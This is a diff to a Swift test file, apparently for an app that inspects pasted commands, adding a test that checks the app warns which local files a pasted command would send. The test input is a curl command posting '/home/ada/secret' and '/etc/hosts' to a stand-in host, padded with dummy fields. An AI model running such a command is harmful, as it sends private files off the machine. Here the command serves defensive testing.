@@ -51,6 +51,16 @@ import Testing
         #expect(Sample.lines(model).contains { $0.contains("[4] ") })
     }
 
+    @Test func `files of this computer that would be sent are named, each of them`() throws {
+        var model = Sample.searchPeople()
+        let fields = (0..<40).map { "-F f\($0)=v" }.joined(separator: " ")
+        PasteCase.paste("curl http://e.test/up \(fields) -F 'a=@/home/ada/secret' -F b=@/etc/hosts", &model)
+        let screen = Sample.lines(model).joined(separator: "\n")
+        for path in ["/home/ada/secret", "/etc/hosts"] {
+            #expect(screen.contains("reads and sends the file \(path)"), "\(screen)")
+        }
+    }
+
     @Test func `a long text opens the card at once and is read elsewhere`() throws {
         var model = Sample.searchPeople()
         let text = "[" + String(repeating: "{\"a\":\"0123456789\"},", count: 52_000) + "1]"
